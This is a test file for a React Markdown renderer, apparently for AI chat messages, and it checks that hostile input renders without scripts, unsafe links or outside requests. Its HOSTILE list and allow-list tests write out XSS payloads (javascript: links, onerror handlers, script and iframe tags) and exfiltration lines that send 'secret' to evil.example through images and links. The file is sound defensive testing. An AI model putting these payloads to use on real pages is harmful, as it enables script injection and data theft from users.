import fc from "fast-check";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { Markdown } from "./markdown.tsx";

/** Ways in which a hostile model, or a resource quoted by an honest one, might run code, load a file or create a link. */
const HOSTILE = [
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
  "[a](&#106;avascript:alert(1)) [b](javascript&colon;alert(1)) [c](java&Tab;script:alert(1))",
  "[a](<java\tscript:alert(1)>) [b](<\u0001javascript:alert(1)>) [c](<\u00a0javascript:alert(1)>)",
  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](blob:https://x.example/1)",
  '<img src=x onerror="alert(1)"> text <img src="https://evil.example/p.png">',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<style>@import url(https://evil.example/x.css);</style>",
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  "<script>alert(1)</script>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<a href="javascript:alert(1)" onclick="alert(1)">a</a> <base href="https://evil.example/">',
  "![pixel](https://evil.example/p.png?q=secret) ![](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[![pixel](https://evil.example/p.png)](javascript:alert(1)) ![a][p]\n\n[p]: https://evil.example/p.png",
  "[a](//evil.example/x) [b](/\\evil.example) [c](\\\\evil.example) [d](evil.example)",
  "[a](mailto:a@b.example%0d%0aBcc:c@d.example) <mailto:a@b.example?cc=c@d.example> mailto:a@b.example?bcc=x@y.example",
  "[a](https://good.example@evil.example/) https://user:secret@evil.example/ <https://a:b@evil.example>",
  '[a](https://x.example/"onmouseover="alert(1)) [b](https://x.example "t\\" onclick=alert(1)")',
  "[a]: javascript:alert(1)\n[^camp:1]: javascript:alert(1)\n\n[a] [a][] [b][a] [^camp:1]",
  '```html"onclick="alert(1)\n<script>alert(1)</script>\n```\n\n`<img src=x onerror=alert(1)>`',
  "| <script>alert(1)</script> | a |\n| :-: | - |\n| ![p](//evil.example/p) | [b](javascript:1) |",
  "- [x] <iframe src=//evil.example>\n- [ ] ![p](https://evil.example/p)\n\n> <object data=//evil.example>",
  "<!--><img src=x onerror=alert(1)>--> <!-- --!><img src=x onerror=alert(1)> <![CDATA[<script>]]> <?x <script> ?>",
  "[a](https://evil.example/\u202egnp.exe) [b](https://ev\u200bil.example) https://аpple.example/",
];

test("detects harmful markup with the check itself", () => {
  expect(harmIn('<p><img src="x" onerror="alert(1)"/><a href="javascript:1">a</a></p>')).toEqual([
    "img",
    "src=x",
    "onerror=alert(1)",
    "href=javascript:1",
  ]);
  expect(harmIn("<p><scr ipt>")).toEqual(["scr", "ipt="]);
});

test("renders hostile text without scripts, requests or unsafe links", () => {
  for (const text of HOSTILE) {
    expect(harmIn(markupOf(text, false))).toEqual([]);
    for (let end = 1; end < text.length; end += 3) {
      expect(harmIn(markupOf(text.slice(0, end), true))).toEqual([]);
    }
  }
});

test("renders hostile fragments in any order safely", () => {
  const piece = fc.constantFrom(
    ...HOSTILE.flatMap((text) => [text, text.slice(0, -2), text.slice(3)]),
    "\n",
    "[",
    "](",
    "<",
  );
  fc.assert(
    fc.property(fc.array(piece, { minLength: 2, maxLength: 6 }), fc.boolean(), (pieces, streaming) => {
      expect(harmIn(markupOf(pieces.join(""), streaming))).toEqual([]);
    }),
    { seed: 20260706, numRuns: 500 },
  );
});

test("shows raw HTML as text, but converts line breaks and drops comments", () => {
  expect(markupOf("a <b>bold</b><br/>c <!-- hidden -->d")).toBe("<p>a &lt;b&gt;bold&lt;/b&gt;<br/>c d</p>");
  expect(markupOf("<div>\nshown\n</div>\n\n<!-- hidden -->")).toBe(
    "<p class>&lt;div&gt;\nshown\n&lt;/div&gt;</p>",
  );
});

test("shows the host of a link", () => {
  const attributes = 'title="dust.example" target="_blank" rel="noopener noreferrer nofollow"';
  expect(markupOf("[the *map*](https://dust.example/m?a=1&amp;b=2)")).toBe(
    `<p><a href="https://dust.example/m?a=1&amp;b=2" ${attributes}>the <em>map</em><span class dir="ltr"> (dust.example)</span></a></p>`,
  );
  expect(markupOf("Write to <camp.lead@dust.example>.")).toBe(
    `<p>Write to <a href="mailto:camp.lead@dust.example" ${attributes} dir="ltr">camp.lead@dust.example</a>.</p>`,
  );
  const visible = (text: string) => markupOf(text).replaceAll(/<[^>]*>/g, "");
  expect(visible("[good.example](https://evil.example/)")).toBe("good.example (evil.example)");
  expect(visible("[**good**.example](https://evil.example/)")).toBe("good.example (evil.example)");
  expect(visible("[](https://evil.example/)")).toBe(" (evil.example)");
  expect(visible("<https://аpple.example/>")).toBe("https://аpple.example/ (xn--pple-43d.example)");
  expect(visible("see https://dust.example/a_b and www.dust.example")).toBe(
    "see https://dust.example/a_b and www.dust.example",
  );
});

test("turns links outside the list of allowed addresses into text", () => {
  const links = new Set(["https://dust.example/book", "https://pics.example/a.png"]);
  const draw = (text: string) =>
    renderToStaticMarkup(
      <Markdown text={text} streaming={false} renderCitation={() => null} links={links} />,
    );
  const visible = (text: string) => draw(text).replaceAll(/<[^>]*>/g, "");
  expect(visible("[book](https://dust.example/book) or ![a tent](https://pics.example/a.png)")).toBe(
    "book (dust.example) or a tent (pics.example)",
  );
  for (const text of [
    "[book](https://dust.example/book?m=secret)",
    "[book](https&colon;//evil.example/secret) [book](https&#58;//evil.example/)",
    "[book][x]\n\n[x]: https://evil.example/secret",
    "https://evil.example/secret www.evil.example <https://evil.example> secret@evil.example",
    "![book](https://evil.example/secret) [![book](https://pics.example/a.png)](https://evil.example)",
    "[book](mailto:secret@evil.example)",
  ])
    expect(draw(text), text).not.toContain("<a ");
});

test("shows an image as a description and a host, in a link as a description only", () => {
  const link =
    'href="https://pics.example/a.png" title="pics.example" target="_blank" rel="noopener noreferrer nofollow"';
  expect(markupOf("![A *red* tent](https://pics.example/a.png)")).toBe(
    `<p><a ${link}>A red tent<span class dir="ltr"> (pics.example)</span></a></p>`,
  );
  expect(markupOf("![A tent](tent.png) ![](x)")).toBe("<p>A tent Picture</p>");
  expect(markupOf("[![A tent](https://pics.example/a.png)](https://dust.example)")).toMatch(
    /^<p><a href="https:\/\/dust.example\/"[^>]*>A tent<span class dir="ltr"> \(dust.example\)<\/span><\/a><\/p>$/,
  );
});

test("renders a citation through the caller, except in code", () => {
  expect(markupOf("Here [^camp:123], **there [^resource:0190f2c4-7]**.")).toBe(
    "<p>Here <button>camp:123</button>, <strong>there <button>resource:0190f2c4-7</button></strong>.</p>",
  );
  expect(markupOf("`[^camp:1]` [^1] [^camp:] [^Camp:1] [^camp:a b]")).not.toContain("<button>");
});

test("renders all common blocks as their elements", () => {
  const text = [
    "# One\n\nTwo\n---\n\n###### Six",
    "3. three\n4. four\n   - nested\n\n     with a paragraph",
    "- [x] done\n- [ ] open",
    "> quoted\n> > twice",
    "| a | b |\n| :-: | -: |\n| 1 | **2** |",
    "    indented code",
    "~~gone~~ \\*kept\\*  \nnext &amp; last",
    "***",
  ].join("\n\n");
  expect(markupOf(text)).toBe(
    [
      "<h3>One</h3><h4>Two</h4><h6>Six</h6>",
      '<ol dir="auto" start="3"><li>three</li><li>four<ul><li><p>nested</p><p>with a paragraph</p></li></ul></li></ol>',
      '<ul dir="auto"><li class><input type="checkbox" disabled="" aria-label="Done" checked=""/>done</li>',
      '<li class><input type="checkbox" disabled="" aria-label="To do"/>open</li></ul>',
      '<blockquote dir="auto"><p>quoted</p><blockquote><p>twice</p></blockquote></blockquote>',
      '<figure class dir="auto" aria-label="Table" tabindex="0"><table><thead><tr>',
      '<th scope="col" data-align="center">a</th><th scope="col" data-align="right">b</th></tr></thead>',
      '<tbody><tr><td data-align="center">1</td><td data-align="right"><strong>2</strong></td></tr></tbody></table></figure>',
      '<div class><pre dir="ltr" tabindex="0"><code>indented code</code></pre></div>',
      "<p><del>gone</del> *kept*<br/>next &amp; last</p>",
      "<hr/>",
    ].join(""),
  );
});

test("strikes text through with two tildes, never with one", () => {
  for (const text of [
    "~3~5 minutes; 22~6",
    "~10~20 people",
    "~a~",
    "H~2~O",
    "from ~7 to ~9",
    "about ~5, ~6~",
  ]) {
    expect(markupOf(text)).toBe(`<p>${text}</p>`);
    expect(markupOf(text, true)).toBe(`<p>${text}</p>`);
  }
  expect(markupOf("~~gone~~ ~5 ~~a ~6 b~~ **~~x~~**")).toBe(
    "<p><del>gone</del> ~5 <del>a ~6 b</del> <strong><del>x</del></strong></p>",
  );
  expect(markupOf("~~gone", true)).toBe("<p><del>gone</del></p>");
});

test.each([
  ["含**「重点」**内容", "含<strong>「重点」</strong>内容"],
  ["含*「重点」*内容", "含<em>「重点」</em>内容"],
  ["含_「重点」_内容", "含<em>「重点」</em>内容"],
  ["含__（重点）__内容", "含<strong>（重点）</strong>内容"],
  ["含~~「旧」~~内容", "含<del>「旧」</del>内容"],
  ["含***「重点」***内容", "含<em><strong>「重点」</strong></em>内容"],
  ["**这是重点。**下一句。", "<strong>这是重点。</strong>下一句。"],
  ["これは**「大事」**です、**はい。**次", "これは<strong>「大事」</strong>です、<strong>はい。</strong>次"],
  [
    '**(중요)**은 **"말"**이 **100%**는',
    '<strong>(중요)</strong>은 <strong>"말"</strong>이 <strong>100%</strong>는',
  ],
  ['他说**"走"**了，**“好”**吧', '他说<strong>"走"</strong>了，<strong>“好”</strong>吧'],
  ["用React**「组件」**来", "用React<strong>「组件」</strong>来"],
  ["**「件」**abc", "<strong>「件」</strong>abc"],
  ["看**`a`**和**[b](c)**吧", '看<strong><code dir="ltr">a</code></strong>和<strong>b</strong>吧'],
  ["𠮷**(x)**𠮷", "𠮷<strong>(x)</strong>𠮷"],
  ["คำ**(สำคัญ)**มาก", "คำ<strong>(สำคัญ)</strong>มาก"],
  ["**重点**、*「甲」*和*乙*。", "<strong>重点</strong>、<em>「甲」</em>和<em>乙</em>。"],
  ["*含**「重点」**内容*", "<em>含<strong>「重点」</strong>内容</em>"],
  ["文件_名_称 と ＿ a_b_c 2 * 3 * 4", "文件_名_称 と ＿ a_b_c 2 * 3 * 4"],
  ['a**"b"**c', 'a**"b"**c'],
])("closes emphasis beside letters and marks of scripts without spaces: %s", (text, markup) => {
  expect(markupOf(text).replaceAll("&quot;", '"')).toBe(`<p>${markup}</p>`);
  expect(markupOf(text, true).replaceAll("&quot;", '"')).toBe(`<p>${markup}</p>`);
});

test.each([
  "2**10 and 3**2",
  "2*3 and 4*5 and 2**10",
  "x**2 + y**2 = z**2",
  "2**n and 3**n",
  "2***3 and 4***5",
  "1~~2 and 3~~4",
  "5**6**7",
  "4711*0815*4711",
])("treats signs between numbers as text: %s", (text) => {
  expect(markupOf(text)).toBe(`<p>${text}</p>`);
});

test.each([
  ["foo**bar**baz", "foo<strong>bar</strong>baz"],
  ["10**kg** and *2*", "10<strong>kg</strong> and <em>2</em>"],
  ["**2**10 2**10", "<strong>2</strong>10 2**10"],
  ["2**10, **3** and 3**2", "2**10, <strong>3</strong> and 3**2"],
  ["at **7:30**, 2 ~~3~~ 4", "at <strong>7:30</strong>, 2 <del>3</del> 4"],
])("renders other emphasis beside numbers and in words: %s", (text, markup) => {
  expect(markupOf(text)).toBe(`<p>${markup}</p>`);
});

test("never renders half-received powers bold", () => {
  for (const text of ["2**1", "2**10", "2**10 and 3**", "2**10 and 3**2"])
    expect(markupOf(text, true)).not.toContain("<strong>");
});

test("renders half-received emphasis between such letters bold immediately", () => {
  for (const text of ["含**「重", "含**「重点」", "含**「重点」*", "含**「重点」**"])
    expect(markupOf(text, true)).toMatch(/^<p>含<strong>「重(?:点」)?<\/strong><\/p>$/);
});

test("ends a bare address at a full-width mark", () => {
  const linked = (text: string) =>
    /<a href="([^"]*)"[^>]*>([^<]*)<\/a>([^<]*)/.exec(markupOf(text))?.slice(1);
  for (const mark of "。）（，！？、；：」』】》〉〕～．｡､”“…—・〜")
    expect(linked(`看https://a.example/x${mark}次`), mark).toEqual([
      "https://a.example/x",
      "https://a.example/x",
      `${mark}次`,
    ]);
  expect(linked("（www.a.example。）")).toBeUndefined();
  expect(linked("(www.a.example。)")).toEqual(["http://www.a.example/", "www.a.example", "。)"]);
  expect(linked("https://a.example。次")).toEqual(["https://a.example/", "https://a.example", "。次"]);
  expect(linked("https://a.example/wiki/中文。")?.slice(1)).toEqual(["https://a.example/wiki/中文", "。"]);
  expect(linked("https://a.example/x_(y)?a=1. So")?.slice(1)).toEqual([
    "https://a.example/x_(y)?a=1",
    ". So",
  ]);
});

test("aligns lists, quotes and tables by their own text direction", () => {
  const markup = markupOf(
    "An English start.\n\n- קודם `npm i` אז\n  - עוד\n\n> ציטוט\n>\n> - פנימי\n\n| שם |\n| - |\n| `a` |\n\n```\nשלום()\n```\n\nראו https://a.example",
  );
  expect(markup).toContain(
    '<ul dir="auto"><li>קודם <code dir="ltr">npm i</code> אז<ul><li>עוד</li></ul></li></ul>',
  );
  expect(markup).toContain('<blockquote dir="auto"><p>ציטוט</p><ul><li>פנימי</li></ul></blockquote>');
  expect(markup).toContain('<figure class dir="auto"');
  expect(markup).toContain('<pre dir="ltr" tabindex="0"><code>שלום()</code></pre>');
  expect(markup).toMatch(/<a href="https:\/\/a.example\/"[^>]* dir="ltr">https:\/\/a.example<\/a>/);
  expect(markupOf("1. אחת\n2. שתיים")).toBe('<ol dir="auto" start="1"><li>אחת</li><li>שתיים</li></ol>');
});

test("flattens excessively deep nesting", () => {
  const deep = markupOf(`${"> ".repeat(200)}end`);
  expect(deep.match(/<blockquote>/g)?.length).toBeLessThan(40);
  expect(deep).toContain("end");

  const emphasised = markupOf(`${"*a **b ".repeat(100)}end${" b** a*".repeat(100)}`);
  expect(emphasised.match(/<(?:em|strong)>/g)?.length).toBeLessThan(40);
  expect(emphasised).toContain("end");
});

/** Every address is one of a cited source. */
const ANY = Object.assign(new Set<string>(), { has: () => true });

/** The message's markup without its outer element and without class names, which the build generates. */
function markupOf(text: string, streaming = false): string {
  const markup = renderToStaticMarkup(
    <Markdown
      text={text}
      streaming={streaming}
      renderCitation={(sourceId) => <button>{sourceId}</button>}
      links={ANY}
    />,
  );
  return markup.replaceAll(/ class="[^"]*"/g, " class").replace(/^<div class>(.*)<\/div>$/s, "$1");
}

const ELEMENTS = [
  ..."a blockquote br button code del div em figure h3 h4 h5 h6 hr input li ol p pre span strong".split(" "),
  ..."table tbody td th thead tr ul".split(" "),
];
const ATTRIBUTES =
  "aria-label checked class data-align dir disabled href rel scope start tabindex target title type".split(
    " ",
  );
const OPENING = /<([a-z\d]+)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/g;
const SAFE_HREF = /^(?:https?:\/\/[a-z\d.-]+\/|mailto:[\w.+-]+@[\w.-]+$)/;

/** Elements and attributes that are not in our lists. React escapes all text, so every `<` opens or closes an element. */
function harmIn(markup: string): string[] {
  const harm: string[] = [];
  for (const [, element = "", written = ""] of markup.matchAll(OPENING)) {
    if (!ELEMENTS.includes(element)) {
      harm.push(element);
    }
    for (const [, attribute = "", value = ""] of written.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)) {
      if (!ATTRIBUTES.includes(attribute) || (attribute === "href" && !SAFE_HREF.test(value))) {
        harm.push(`${attribute}=${value}`);
      }
    }
  }
  const unread = markup.replaceAll(OPENING, "").replaceAll(/<\/[a-z\d]+>/g, "");
  return /[<>]/.test(unread) ? [...harm, unread] : harm;
}
